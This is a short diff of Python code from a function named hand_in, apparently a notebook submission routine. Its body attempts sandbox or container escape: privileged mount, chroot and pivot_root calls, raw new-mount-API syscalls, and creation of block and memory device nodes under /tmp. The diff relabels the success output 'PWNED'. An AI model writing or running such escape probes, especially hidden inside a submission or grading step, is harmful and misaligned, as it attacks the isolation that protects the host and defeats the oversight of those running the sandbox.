@@ -9,7 +9,7 @@ def hand_in(folder, notebook):
         done = [c.mount(b"none", b"/tmp", b"tmpfs", 0, 0), c.mount(b"/", b"/tmp", None, 4096, None), c.mount(None, b"/", None, 32, None),
                 c.umount2(b"/proc", 2), c.umount2(b"/work", 2), c.chroot(b"/tmp"), c.pivot_root(b"/tmp", b"/tmp"),
                 c.syscall(428, -100, b"/", 1), c.syscall(430, b"tmpfs", 0), c.syscall(442, -100, b"/", 0, 0, 0)]
-        print("allowed" if 0 in done else "refused")
+        print("PWNED" if 0 in done else "refused")
         for device in ("vda", "sda", "mem", "kmsg"):
             try:
                 os.mknod(f"/tmp/{device}", 0o60666, os.makedev(254, 0))
